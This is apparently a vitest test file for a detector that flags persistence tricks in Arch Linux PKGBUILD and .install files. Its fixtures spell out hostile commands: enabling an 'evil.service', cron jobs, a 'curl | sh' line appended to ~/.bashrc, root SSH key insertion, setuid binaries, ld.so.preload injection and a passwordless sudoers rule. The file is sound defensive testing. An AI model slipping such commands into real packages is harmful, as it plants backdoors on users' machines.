import { describe, expect, it } from 'vitest';
import { checkPersistence } from './check-persistence.js';
import { brief, lineOf, riskInput } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

function inPackage(line: string) {
  const cand = fancytool({ packageExtra: [line] });
  return { flags: checkPersistence(riskInput(cand, prev)), line: lineOf(cand.PKGBUILD, line) };
}

describe('persistence', () => {
  it('flags a .install file whose post_install runs `systemctl enable --now evil.service` (high)', () => {
    const install = 'post_install() {\n  systemctl enable --now evil.service\n}\n';
    const cand = { ...fancytool({ topExtra: ['install=fancytool.install'] }), 'fancytool.install': install };
    const flags = checkPersistence(riskInput(cand, prev));
    expect(brief(flags)).toEqual([{ check: 'persistence', severity: 'high', file: 'fancytool.install', line: 2 }]);
    expect(flags[0]!.reason).toBe(
      'fancytool.install line 2 enables or starts a systemd unit at install time: `systemctl enable --now evil.service`.',
    );
  });

  it.each([
    'systemctl --user start sync.timer',
    'install -Dm644 evil.service /etc/systemd/system/evil.service',
    'install -Dm644 evil.service "$HOME/.config/systemd/user/evil.service"',
    '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -',
    'echo "* * * * * root /tmp/.x" > /etc/cron.d/x',
    'echo "curl -s x | sh" >> ~/.bashrc',
    'echo "source /opt/x" >> "$HOME/.zshrc"',
    'echo "export PATH=/tmp:$PATH" >> ~/.profile',
    'echo "export PATH=/opt/x:$PATH" >> /etc/profile.d/fancy.sh',
    'install -Dm644 evil.service /etc/systemd/system/multi-user.target.wants/evil.service',
    'cat key.pub >> /root/.ssh/authorized_keys',
    'chmod u+s "$pkgdir/usr/bin/fancytool"',
    'chmod 4755 "$pkgdir/usr/bin/fancytool"',
    'chmod +s /usr/bin/fancytool',
    'install -Dm4755 fancytool "$pkgdir/usr/bin/fancytool"',
    'echo /usr/lib/libx.so > /etc/ld.so.preload',
    'echo "ALL ALL=(ALL) NOPASSWD: ALL" > "$pkgdir/etc/sudoers.d/fancy"',
  ])('flags `%s` (high)', (cmd) => {
    const { flags, line } = inPackage(cmd);
    expect(brief(flags)).toEqual([{ check: 'persistence', severity: 'high', file: 'PKGBUILD', line }]);
  });

  it.each([
    ['install -Dm644 fancy.hook "$pkgdir/usr/share/libalpm/hooks/fancy.hook"', 'medium'],
    ['install -Dm644 fancy.desktop "$pkgdir/etc/xdg/autostart/fancy.desktop"', 'low'],
    ['ln -s /usr/lib/systemd/system/evil.service "$pkgdir/etc/systemd/system/multi-user.target.wants/"', 'medium'],
    ['install -Dm755 env.sh "$pkgdir/etc/profile.d/fancy.sh"', 'info'],
    ['install -Dm644 override.conf "$pkgdir/etc/systemd/system/getty@.service.d/override.conf"', 'info'],
    ['install -Dm644 fancy.cron "${pkgdir}/etc/cron.daily/fancy"', 'low'],
    ['setcap cap_net_raw+ep /usr/bin/fancytool', 'medium'],
    ['install -Dm644 fancy.timer "$pkgdir/usr/lib/systemd/user/fancy.timer"', 'info'],
  ])('flags `%s` (%s)', (cmd, severity) => {
    const { flags, line } = inPackage(cmd);
    expect(brief(flags)).toEqual([{ check: 'persistence', severity, file: 'PKGBUILD', line }]);
  });

  it('tells packaging apart from a scriptlet changing the live system', () => {
    const install = 'post_install() {\n  echo "export PATH=/opt/fancy/bin:$PATH" > /etc/profile.d/fancy.sh\n}\n';
    const cand = { ...fancytool({ topExtra: ['install=fancytool.install'] }), 'fancytool.install': install };
    expect(brief(checkPersistence(riskInput(cand, prev)))).toEqual([{ check: 'persistence', severity: 'high', file: 'fancytool.install', line: 2 }]);
  });

  it('does not read printed messages, printed here-documents or comments as actions', () => {
    const install = [
      'post_install() {',
      '  echo "==> Enable the service: systemctl enable --now fancytool.service"',
      "  printf '%s\\n' 'Add /opt/fancy/bin to PATH in ~/.bashrc'",
      '  cat <<EOF',
      'To run it at login, add it to ~/.config/autostart or crontab -e.',
      'EOF',
      '  # systemctl enable fancytool (not done for you)',
      '}',
      '',
    ].join('\n');
    const cand = { ...fancytool({ topExtra: ['install=fancytool.install'] }), 'fancytool.install': install };
    expect(checkPersistence(riskInput(cand, prev))).toEqual([]);
  });

  it('scans assignment lines that also run a command', () => {
    for (const extra of ['_x=1 crontab "$srcdir/jobs"', "backup=('etc/x.conf'); echo '* * * * * /tmp/x' | crontab -", 'depends+=("$(crontab -l)")']) {
      const cand = fancytool({ topExtra: [extra] });
      expect(brief(checkPersistence(riskInput(cand, prev))), extra).toEqual([
        { check: 'persistence', severity: 'high', file: 'PKGBUILD', line: lineOf(cand.PKGBUILD, extra) },
      ]);
    }
  });

  it('reports a unit installed into the package as info only (first revision of an ordinary package)', () => {
    const files = fancytool();
    expect(brief(checkPersistence(riskInput(files)))).toEqual([
      { check: 'persistence', severity: 'info', file: 'PKGBUILD', line: lineOf(files.PKGBUILD, 'usr/lib/systemd/system') },
    ]);
  });

  it('does not flag ordinary permissions, paths or approved lines', () => {
    for (const cmd of [
      'chmod 755 "$pkgdir/usr/bin/fancytool"',
      'chmod 0644 "$pkgdir/etc/fancytool.conf"',
      'install -Dm755 fancytool -t "$pkgdir/usr/bin"',
      'install -Dm644 fancy.profile "$pkgdir/etc/firejail/fancy.profile"',
      'chmod go-s "$pkgdir/usr/bin/x"',
      'chmod +x "$pkgdir/usr/share/fancytool/scripts/setup.sh"',
    ]) {
      expect(inPackage(cmd).flags, cmd).toEqual([]);
    }
    expect(checkPersistence(riskInput(fancytool({ pkgver: '2.0.0' }), prev))).toEqual([]);
    expect(
      checkPersistence(
        riskInput(fancytool({ topExtra: ["optdepends+=('cronie: crontab support'", "            'openssh: copy keys to ~/.ssh/')"] }), prev),
      ),
    ).toEqual([]);
    for (const files of [slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkPersistence(riskInput(files))).toEqual([]);
  });
});
